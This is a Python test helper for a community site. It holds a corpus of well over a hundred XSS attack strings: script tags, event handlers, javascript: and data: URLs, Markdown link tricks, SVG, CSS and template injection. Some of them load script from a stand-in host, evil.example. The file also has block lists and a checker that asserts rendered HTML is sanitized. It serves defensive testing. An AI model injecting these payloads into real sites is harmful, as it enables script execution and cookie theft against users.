"""A corpus of XSS attack strings, and one checker for HTML made from user text.

Every path that turns member-written text into HTML (Markdown bodies, bios,
titles, search snippets, e-mails, ...) should be tested with::

    from tests.cop_site.xss_vectors import XSS_PARAMS, assert_html_is_safe

    @pytest.mark.parametrize("payload", XSS_PARAMS)
    def test_...(payload):
        assert_html_is_safe(html_made_from(payload))

``XSS_VECTORS`` is a list of ``(id, payload)`` tuples; ``XSS_PARAMS`` is the
same as ``pytest.param`` objects with readable ids.

``assert_html_is_safe`` checks a *fragment* rendered from user text, not a whole
page (a page has its own <script>, <form> and un-rel'd links).
"""

import html
import re

import pytest
from bs4 import BeautifulSoup

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>

XSS_VECTORS = [
    # --- <script> in every shape -------------------------------------------------
    ("script-plain", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-src-attr", '<script src="https://evil.example/x.js"></script>'),
    ("script-src-slash", "<script/src=//evil.example/x.js></script>"),
    ("script-type-module", '<script type="module">import("//evil.example")</script>'),
    ("script-formfeed", "<script\x0c>alert(1)</script>"),
    ("script-newline-in-tag", "<script\n>alert(1)</script\n>"),
    ("script-nul-in-name", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("script-double-open", "<<script>alert(1);//<</script>"),
    ("script-break-out", "</script><script>alert(1)</script>"),
    ("script-mid-sentence", "Hello <script>alert(document.cookie)</script> world"),
    ("script-in-markdown-emphasis", "*<script>alert(1)</script>*"),
    ("script-long-s", "<ſcript>alert(1)</ſcript>"),
    ("script-fullwidth", "＜script＞alert(1)＜/script＞"),
    # --- event handlers ------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-slashes", "<img/src/onerror=alert(1)>"),
    ("img-onerror-backtick", "<img src=`x`onerror=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)></select>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)></textarea>"),
    ("a-onmouseover", '<a href="https://example.com" onmouseover="alert(1)">hover</a>'),
    ("div-onpointerenter", '<div onpointerenter="alert(1)">x</div>'),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("video-poster-js", '<video poster="javascript:alert(1)"></video>'),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("allowed-tag-onclick", '<p onclick="alert(1)">click</p>'),
    ("allowed-tag-b-onmouseover", "<b onmouseover=alert(1)>bold</b>"),
    ("allowed-img-onerror", '<img src="https://example.com/a.png" onerror="alert(1)">'),
    ("allowed-td-onclick", "<table><tr><td onclick=alert(1)>x</td></tr></table>"),
    ("onerror-uppercase", "<IMG SRC=x ONERROR=alert(1)>"),
    ("keygen-onfocus", "<keygen autofocus onfocus=alert(1)>"),
    # --- dangerous URLs as raw HTML -------------------------------------------------
    ("html-a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("html-a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("html-a-entity-decimal", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("html-a-entity-hex", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("html-a-entity-no-semicolon", '<a href="&#0000106&#0000097vascript:alert(1)">x</a>'),
    ("html-a-tab", '<a href="jav\tascript:alert(1)">x</a>'),
    ("html-a-leading-space", '<a href=" javascript:alert(1)">x</a>'),
    ("html-a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("html-a-data", '<a href="data:text/html;base64,' + B64_SCRIPT + '">x</a>'),
    ("html-img-src-javascript", '<img src="javascript:alert(1)">'),
    ("html-img-src-data", '<img src="data:image/svg+xml;base64,' + B64_SVG + '">'),
    ("html-a-target-blank", '<a href="https://example.com" target="_blank">tab</a>'),
    # --- dangerous URLs as Markdown links ------------------------------------------
    ("md-link-javascript", "[x](javascript:alert(1))"),
    ("md-link-javascript-upper", "[x](JAVASCRIPT:alert(1))"),
    ("md-link-javascript-mixed", "[x](JaVaScRiPt:alert(1))"),
    ("md-link-leading-space", "[x]( javascript:alert(1))"),
    ("md-link-many-spaces", "[x](    javascript:alert(1))"),
    ("md-link-angle-dest", "[x](<javascript:alert(1)>)"),
    ("md-link-entity-decimal", "[x](&#106;avascript:alert(1))"),
    ("md-link-entity-hex", "[x](&#x6A;avascript:alert(1))"),
    ("md-link-entity-hex-upper", "[x](&#X6a;&#X61;vascript:alert(1))"),
    ("md-link-entity-padded", "[x](&#0000106;avascript:alert(1))"),
    ("md-link-entity-colon", "[x](javascript&colon;alert(1))"),
    ("md-link-entity-colon-numeric", "[x](javascript&#58;alert(1))"),
    ("md-link-entity-tab", "[x](java&Tab;script:alert(1))"),
    ("md-link-entity-newline", "[x](jav&#x0A;ascript:alert(1))"),
    ("md-link-tab", "[x](java\tscript:alert(1))"),
    ("md-link-newline", "[x](java\nscript:alert(1))"),
    ("md-link-cr", "[x](java\rscript:alert(1))"),
    ("md-link-nul", "[x](java\x00script:alert(1))"),
    ("md-link-nul-after-colon", "[x](javascript:\x00alert(1))"),
    ("md-link-leading-control", "[x](\x01\x02javascript:alert(1))"),
    ("md-link-percent-encoded", "[x](%6Aavascript:alert(1))"),
    ("md-link-percent-colon", "[x](javascript%3Aalert(1))"),
    ("md-link-backslash", r"[x](\javascript:alert(1))"),
    ("md-link-escaped-colon", r"[x](javascript\:alert(1))"),
    ("md-link-slashes-newline", "[x](javascript://%0Aalert(1))"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-link-livescript", "[x](livescript:alert(1))"),
    ("md-link-data-html", "[x](data:text/html,<script>alert(1)</script>)"),
    ("md-link-data-base64", "[x](data:text/html;base64," + B64_SCRIPT + ")"),
    ("md-link-feed-javascript", "[x](feed:javascript:alert(1))"),
    ("md-link-with-title", '[x](javascript:alert(1) "title")'),
    ("md-link-unicode-escape", "[x](javascript\u200b:alert(1))"),
    ("md-ref-javascript", "[x][1]\n\n[1]: javascript:alert(1)"),
    ("md-ref-javascript-title", '[x][a]\n\n[a]: javascript:alert(1) "t"'),
    ("md-ref-angle", "[x][1]\n\n[1]: <javascript:alert(1)>"),
    ("md-ref-implicit", "[evil][]\n\n[evil]: JavaScript:alert(1)"),
    ("md-ref-data", "[x][d]\n\n[d]: data:text/html;base64," + B64_SCRIPT),
    ("md-nested-links", "[[x](javascript:alert(1))](https://example.com)"),
    ("md-image-in-js-link", "[![img](javascript:alert(1))](javascript:alert(2))"),
    # --- autolinks and bare URLs ---------------------------------------------------
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("autolink-javascript-upper", "<JAVASCRIPT:alert(1)>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("autolink-quote-breakout", '<http://example.com/" onmouseover="alert(1)>'),
    ("autolink-script-in-path", "<http://example.com/<script>alert(1)</script>>"),
    ("autolink-mailto-script", "<mailto:a@example.com?body=<script>alert(1)</script>>"),
    ("bare-javascript", "javascript:alert(1)"),
    ("bare-javascript-slashes", "javascript://example.com/%0Aalert(1)"),
    ("bare-data-slashes", "data://example.com/x"),
    ("bare-url-quote-breakout", 'http://example.com/"onmouseover="alert(1)'),
    ("bare-url-img-in-query", "https://example.com/?q=<img src=x onerror=alert(1)>"),
    ("bare-www-script", "www.example.com/<script>alert(1)</script>"),
    # --- Markdown images -----------------------------------------------------------
    ("md-img-javascript", "![x](javascript:alert(1))"),
    ("md-img-data-html", "![x](data:text/html;base64," + B64_SCRIPT + ")"),
    ("md-img-data-svg", "![x](data:image/svg+xml;base64," + B64_SVG + ")"),
    ("md-img-data-leading-space", "![x](  data:image/png;base64,iVBORw0KGgo=)"),
    ("md-img-vbscript", "![x](vbscript:msgbox(1))"),
    ("md-img-title-onerror", '![x](http://a "onerror=alert(1)")'),
    ("md-img-alt-breakout", '![x"onerror="alert(1)](http://a)'),
    ("md-img-src-breakout", '![x](http://a/"onerror="alert(1))'),
    ("md-img-alt-script", "![<script>alert(1)</script>](https://example.com/a.png)"),
    ("md-img-ref-javascript", "![x][i]\n\n[i]: javascript:alert(1)"),
    ("md-img-entity-javascript", "![x](&#106;avascript:alert(1))"),
    # --- breaking out of Markdown link titles ----------------------------------------
    ("md-title-double-quote", '[a](http://x "\\" onmouseover=alert(1) \\"")'),
    ("md-title-raw-double-quote", '[a](http://x "" onmouseover=alert(1) "")'),
    ("md-title-single-quote", "[a](http://x 'a\\' onmouseover=alert(1)')"),
    ("md-title-parens", '[a](http://x (") onmouseover=alert(1) x="))'),
    ("md-href-double-quote", '[a](http://x" onmouseover="alert(1))'),
    ("md-href-single-quote", "[a](http://x'onmouseover='alert(1))"),
    ("md-href-entity-quote", "[a](http://x&quot;onmouseover=alert(1))"),
    ("md-title-entity-quote", '[a](http://x "t&quot; onmouseover=&quot;alert(1)")'),
    ("md-img-src-entity-quote", "![a](http://x&#34;onerror=alert(1))"),
    ("md-link-text-html", "[<img src=x onerror=alert(1)>](https://example.com)"),
    # --- SVG and MathML ------------------------------------------------------------
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'),
    ("svg-animate-href", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'),
    ("svg-foreignobject", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    ("svg-set-onbegin", "<svg><set onbegin=alert(1) attributeName=x></svg>"),
    ("svg-use-data", '<svg><use href="data:image/svg+xml;base64,' + B64_SVG + '#x"/></svg>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-href", '<math href="javascript:alert(1)">click</math>'),
    ("math-maction", '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>'),
    ("svg-style-breakout", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    # --- CSS ---------------------------------------------------------------------
    ("style-import", "<style>@import 'javascript:alert(1)';</style>"),
    ("style-url-javascript", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-attr-expression", '<div style="width:expression(alert(1))">x</div>'),
    ("style-attr-url", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-attr-comment-expression", '<img style="xss:expr/**/ession(alert(1))">'),
    ("style-attr-behavior", '<p style="behavior:url(x.htc)">x</p>'),
    ("style-attr-overlay", '<p style="position:fixed;top:0;left:0;width:100%;height:100%">phish</p>'),
    # --- embedding, forms, and document-level tags --------------------------------------
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("frameset", "<frameset><frame src=javascript:alert(1)></frameset>"),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("object-base64", '<object data="data:text/html;base64,' + B64_SCRIPT + '"></object>'),
    ("embed-src", '<embed src="javascript:alert(1)">'),
    ("applet", '<applet code="javascript:alert(1)"></applet>'),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">go</button></form>'),
    ("input-formaction", '<input type="image" formaction="javascript:alert(1)" src="x">'),
    ("isindex-action", '<isindex action="javascript:alert(1)" type=image>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-data", '<meta http-equiv="refresh" content="0;url=data:text/html;base64,' + B64_SCRIPT + '">'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("template-tag", "<template><script>alert(1)</script></template>"),
    ("portal-tag", '<portal src="https://evil.example"></portal>'),
    # --- encoded and malformed tags ---------------------------------------------------
    ("double-angle", "<<script>>alert(1)<</script>>"),
    ("img-triple-quote", '<img """><script>alert(1)</script>">'),
    ("comment-script", "<!--<script>alert(1)</script>-->"),
    ("comment-early-close", "<!--><script>alert(1)</script>-->"),
    ("comment-bang-close", "<!-- --!><script>alert(1)</script>"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("cdata-unclosed", "<![CDATA[><img src=x onerror=alert(1)>"),
    ("processing-instruction", '<?xml version="1.0"?><script>alert(1)</script>'),
    ("img-unclosed", "<img src=x onerror=alert(1)//"),
    ("a-unclosed", '<a href="javascript:alert(1)"'),
    ("close-title", "</title><script>alert(1)</script>"),
    ("close-textarea", "</textarea><script>alert(1)</script>"),
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("attr-breakout-double", '"><script>alert(1)</script>'),
    ("attr-breakout-single", "'><img src=x onerror=alert(1)>"),
    ("unknown-tag-onxxx", "<x onxxx=alert(1) 1='"),
    ("entity-encoded-tags", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("numeric-entity-tags", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("xmp-plaintext", "<xmp><script>alert(1)</script></xmp><plaintext><script>"),
    # --- HTML inside Markdown constructs ------------------------------------------------
    ("fenced-code-html", "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"),
    ("fenced-code-close-pre", "```\n</code></pre><script>alert(1)</script>\n```"),
    ("fenced-code-lang-breakout", '```"><script>alert(1)</script>\nx\n```'),
    ("fenced-code-lang-onclick", "``` {.x onclick=alert(1)}\nx\n```"),
    ("indented-code-html", "    <script>alert(1)</script>"),
    ("inline-code-html", "Use `<img src=x onerror=alert(1)>` carefully"),
    ("table-cell-html", "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |"),
    ("table-header-html", "| <svg onload=alert(1)> | b |\n|---|---|\n| 1 | 2 |"),
    ("table-cell-md-link", "| a |\n|---|\n| [x](javascript:alert(1)) |"),
    ("blockquote-html", "> <script>alert(1)</script>\n> <iframe src=javascript:alert(1)>"),
    ("list-item-html", "- <img src=x onerror=alert(1)>\n    1. <svg/onload=alert(1)>"),
    ("heading-html", "# <script>alert(1)</script>"),
    ("html-block-markdown", "<div>\n\n[x](javascript:alert(1))\n\n</div>"),
    # --- Markdown placeholder injection ------------------------------------------------
    ("md-placeholder-stash", "\x02wzxhzdk:0\x03<script>alert(1)</script>"),
    ("md-placeholder-inline", "\x02klzzwxh:0000\x03 <img src=x onerror=alert(1)>"),
    ("md-placeholder-after-code", "`<b>`\n\n\x02wzxhzdk:0\x03"),
    # --- Markdown parser overflow (falls back to escaped text) --------------------------
    ("deep-nesting-fallback", "- " * 1000 + "<script>alert(1)</script> [x](javascript:alert(1)) https://example.com"),
    # --- template injection (must come out literally) ----------------------------------
    ("template-django-var", "{{ 7*7 }}"),
    ("template-django-tag", "{% load static %}{% debug %}"),
    ("template-dollar", "${7*7}"),
    ("template-erb", "<%= 7*7 %>"),
    ("template-angular", "{{constructor.constructor('alert(1)')()}}"),
]

XSS_PARAMS = [pytest.param(payload, id=name) for name, payload in XSS_VECTORS]

# Elements that must never come out of user text as real elements (escaped text is fine).
FORBIDDEN_ELEMENTS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet",
        "svg", "math", "form", "input", "button", "textarea", "select", "isindex",
        "meta", "base", "link", "template", "portal", "xmp", "plaintext", "noscript",
    }
)  # fmt: skip
FORBIDDEN_ATTRIBUTES = frozenset({"style", "srcdoc", "target"})
URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
        "cite", "longdesc", "lowsrc", "dynsrc", "ping", "manifest", "codebase", "srcset",
    }
)  # fmt: skip
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
REQUIRED_REL = frozenset({"nofollow", "ugc", "noopener"})

_URL_JUNK = re.compile(r"[`\x00-\x20\x7f-\xa0\s]+")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_RAW_TAG = re.compile(r"<\s*/?\s*([a-zA-Z][^\s/>]*)")


def url_scheme(value):
    """The scheme a browser would act on, or None for a relative URL / anchor."""
    normalized = _URL_JUNK.sub("", html.unescape(value)).lower()
    match = _SCHEME.match(normalized)
    return match.group(1) if match else None


def assert_html_is_safe(fragment):
    """Assert that HTML rendered from user text can't run script or restyle the page.

    Checks the raw string (parser-independent) and the parsed tree:
    no forbidden elements, no comments/CDATA/processing instructions, no on*
    handlers, no style/srcdoc/target attributes, only http/https/mailto or
    relative URLs, and rel="nofollow ugc noopener" on every link.
    """
    fragment = str(fragment)
    for match in _RAW_TAG.finditer(fragment):
        assert match.group(1).lower() not in FORBIDDEN_ELEMENTS, f"raw <{match.group(1)}> tag in {fragment!r}"
    assert "<!" not in fragment and "<?" not in fragment, f"comment/CDATA/PI markup in {fragment!r}"

    soup = BeautifulSoup(fragment, "html.parser")
    for element in soup.find_all(True):
        name = element.name.lower()
        assert name not in FORBIDDEN_ELEMENTS, f"<{name}> element in {fragment!r}"
        for attr, value in element.attrs.items():
            attr = attr.lower()
            value = " ".join(value) if isinstance(value, list) else value
            assert not attr.startswith("on"), f"event handler {attr}= on <{name}> in {fragment!r}"
            assert attr not in FORBIDDEN_ATTRIBUTES, f"{attr}= on <{name}> in {fragment!r}"
            if attr in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                assert scheme is None or scheme in SAFE_SCHEMES, f"{attr}={value!r} on <{name}> in {fragment!r}"
        if name == "a":
            rel = element.get("rel") or []
            rel = set(rel.split() if isinstance(rel, str) else rel)
            assert REQUIRED_REL <= rel, f"<a> without rel={' '.join(sorted(REQUIRED_REL))!r} in {fragment!r}"
